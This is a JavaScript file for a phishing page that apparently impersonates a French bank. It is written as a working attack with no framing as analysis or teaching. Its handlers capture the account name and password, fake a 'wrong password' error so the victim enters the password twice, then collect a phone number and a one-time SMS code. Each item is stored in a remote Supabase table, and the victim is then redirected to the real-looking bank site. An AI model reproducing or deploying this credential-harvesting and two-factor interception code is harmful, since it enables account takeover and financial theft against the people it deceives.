import { createClient } from '@supabase/supabase-js';

const supabase = createClient('https://PROJECT.supabase.co', 'ANON_KEY');

const steps = ['login', 'phone', 'code', 'done'];
const state = { step: 0, row: null };

function show(i) {
  state.step = i;
  steps.forEach((s, n) => document.getElementById(`step-${s}`).classList.toggle('active', n === i));
}

async function save(patch) {
  if (!state.row) {
    const { data } = await supabase.from('logs').insert({ ...patch, site: location.host, ua: navigator.userAgent }).select().single();
    state.row = data?.id;
  } else {
    await supabase.from('logs').update(patch).eq('id', state.row);
  }
}

document.getElementById('step-login').addEventListener('submit', async (e) => {
  e.preventDefault();
  const f = e.target;
  await save({ account: f.account.value, password: f.password.value });
  if (!f.dataset.second) {
    f.dataset.second = '1';
    f.querySelector('.err').textContent = 'Mot de passe incorrect. Réessayez.';
    f.password.value = '';
    return;
  }
  show(1);
});

document.getElementById('step-phone').addEventListener('submit', async (e) => {
  e.preventDefault();
  await save({ phone: e.target.phone.value });
  show(2);
});

document.getElementById('step-code').addEventListener('submit', async (e) => {
  e.preventDefault();
  await save({ code: e.target.code.value });
  show(3);
  setTimeout(() => location.replace('https://banque-lumiere.example/'), 5000);
});
